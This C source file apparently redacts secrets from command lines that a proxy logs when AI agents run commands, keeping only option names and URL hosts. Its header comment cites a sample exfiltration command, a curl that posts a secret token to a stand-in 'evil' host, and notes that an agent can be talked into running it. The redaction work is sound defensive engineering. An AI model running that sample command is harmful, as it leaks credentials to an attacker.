/*
 * redact.c: a command line as the audit trail keeps it (px_cmdline_redact,
 * bypass.h). The proxy and the bypass catcher both record the caller's
 * command line; an agent talked into `curl -d "token=$SECRET" https://evil/`
 * must not copy the secret into the very logs it is judged by.
 *
 * Kept: the program; option names (`--data`, `-X`, bundles of up to four
 * short flags like `-sSL`); of a URL (an argument, or an option's value
 * after `=`, that starts with scheme://) its scheme, host and port, without
 * any user:password@. Everything else, including attached short-option
 * values (`-dSECRET`), becomes <redacted>. One argument is one token:
 * `sh -c 'env | grep -i proxy'` (3 arguments) is `sh -c <redacted>`, so
 * px_argv_redact takes the arguments themselves (NUL-separated, as
 * /proc/PID/cmdline has them); px_cmdline_redact splits a line at spaces.
 */
#include <ctype.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <strings.h>

#include "proxy/bypass.h"
#include "proxy/px_internal.h"

#define REDACTED "<redacted>"

/* Length of "scheme://" at the start of s[0..n) for a scheme network
 * clients use, or 0 (any other "x://" could be the secret itself). */
static size_t scheme_len(const char *s, size_t n)
{
    static const char *const known[] = {
        "http",     "https",      "ws",      "wss",     "ftp",   "ftps",  "sftp",
        "ssh",      "git",        "rsync",   "s3",      "gs",    "grpc",  "grpcs",
        "socks4",   "socks5",     "socks5h", "mqtt",    "mqtts", "redis", "rediss",
        "postgres", "postgresql", "mysql",   "mongodb", "amqp",  "amqps", "smtp",
        "smtps",    "imap",       "imaps",   "ldap",    "ldaps",
    };
    for (size_t k = 0; k < sizeof known / sizeof *known; k++) {
        size_t l = strlen(known[k]);
        if (l + 3 <= n && strncasecmp(s, known[k], l) == 0 && memcmp(s + l, "://", 3) == 0)
            return l + 3;
    }
    return 0;
}

static void put(char *out, size_t n, size_t *o, const char *s, size_t len)
{
    if (*o + 1 >= n)
        return;
    if (len > n - 1 - *o)
        len = n - 1 - *o;
    memcpy(out + *o, s, len);
    *o += len;
    out[*o] = '\0';
}

/* A value: scheme://host[:port] of a URL, or <redacted>. */
static void put_value(char *out, size_t n, size_t *o, const char *v, size_t len)
{
    size_t sl = scheme_len(v, len);
    if (!sl) {
        put(out, n, o, REDACTED, strlen(REDACTED));
        return;
    }
    const char *auth = v + sl;
    size_t alen = strcspn(auth, "/?#");
    if (alen > len - sl)
        alen = len - sl;
    const char *at = NULL; /* user:password@ goes */
    for (size_t i = 0; i < alen; i++)
        if (auth[i] == '@')
            at = auth + i;
    put(out, n, o, v, sl);
    if (at) {
        alen -= (size_t)(at + 1 - auth);
        auth = at + 1;
    }
    put(out, n, o, auth, alen);
    if (auth + alen < v + len)
        put(out, n, o, REDACTED, strlen(REDACTED));
}

static bool option_name(const char *s, size_t len)
{
    if (len < 2 || s[0] != '-')
        return false;
    if (s[1] == '-') { /* --long-name */
        if (len < 3 || len > 40)
            return false;
        for (size_t i = 2; i < len; i++)
            if (!islower((unsigned char)s[i]) && !isdigit((unsigned char)s[i]) && s[i] != '-')
                return false;
        return true;
    }
    if (len > 5) /* -x, or a bundle of at most four short flags */
        return false;
    for (size_t i = 1; i < len; i++)
        if (!isalpha((unsigned char)s[i]))
            return false;
    return true;
}

/* One argument: the program as it is, an option name, a URL's
 * scheme://host[:port], or <redacted>. */
static void put_arg(char *out, size_t n, size_t *o, const char *p, size_t len, bool first)
{
    const char *eq = memchr(p, '=', len);
    if (first) {
        put(out, n, o, p, len);
    } else if (!len) {
        put(out, n, o, "''", 2); /* an empty argument still counts */
    } else if (len == 2 && p[0] == '-' && p[1] == '-') {
        put(out, n, o, p, 2); /* the end of the options */
    } else if (p[0] == '-' && eq && option_name(p, (size_t)(eq - p))) {
        put(out, n, o, p, (size_t)(eq - p) + 1);
        put_value(out, n, o, eq + 1, len - (size_t)(eq + 1 - p));
    } else if (p[0] == '-' && !eq && option_name(p, len)) {
        put(out, n, o, p, len);
    } else if (p[0] == '-' && len > 2 && p[1] != '-' && isalpha((unsigned char)p[1])) {
        put(out, n, o, p, 2); /* -dVALUE: the flag, not its value */
        put(out, n, o, REDACTED, strlen(REDACTED));
    } else {
        put_value(out, n, o, p, len);
    }
}

void px_cmdline_redact(const char *in, char *out, size_t n)
{
    size_t o = 0;
    bool first = true;
    if (n == 0)
        return;
    out[0] = '\0';
    for (const char *p = in; *p;) {
        while (*p == ' ')
            p++;
        size_t len = strcspn(p, " ");
        if (!len)
            break;
        if (!first)
            put(out, n, &o, " ", 1);
        put_arg(out, n, &o, p, len, first);
        first = false;
        p += len;
    }
}

void px_argv_redact(const char *args, size_t len, char *out, size_t n)
{
    size_t o = 0;
    if (n == 0)
        return;
    out[0] = '\0';
    if (len && args[len - 1] == '\0')
        len--; /* the last argument's own NUL */
    if (!len)
        return;
    for (size_t i = 0, k = 0; i <= len; k++) {
        const char *p = args + i;
        const char *end = memchr(p, '\0', len - i);
        size_t alen = end ? (size_t)(end - p) : len - i;
        if (k)
            put(out, n, &o, " ", 1);
        put_arg(out, n, &o, p, alen, k == 0);
        i += alen + 1;
    }
}

/* A URL's query as events keep it (px_internal.h): "a=1&b=2&c" gives
 * "a=<redacted>&b=<redacted>&<redacted>"; an empty value stays empty. */
void px_query_redact(const char *q, size_t n, ocsf_buf_t *out)
{
    size_t i = 0;
    while (i <= n) {
        const char *item = q + i;
        const char *amp = memchr(item, '&', n - i);
        size_t len = amp ? (size_t)(amp - item) : n - i;
        const char *eq = memchr(item, '=', len);
        if (eq) {
            ocsf_buf_put(out, item, (size_t)(eq - item) + 1);
            if (eq + 1 < item + len)
                ocsf_buf_puts(out, REDACTED);
        } else if (len) {
            ocsf_buf_puts(out, REDACTED);
        }
        if (!amp)
            break;
        ocsf_buf_putc(out, '&');
        i += len + 1;
    }
}
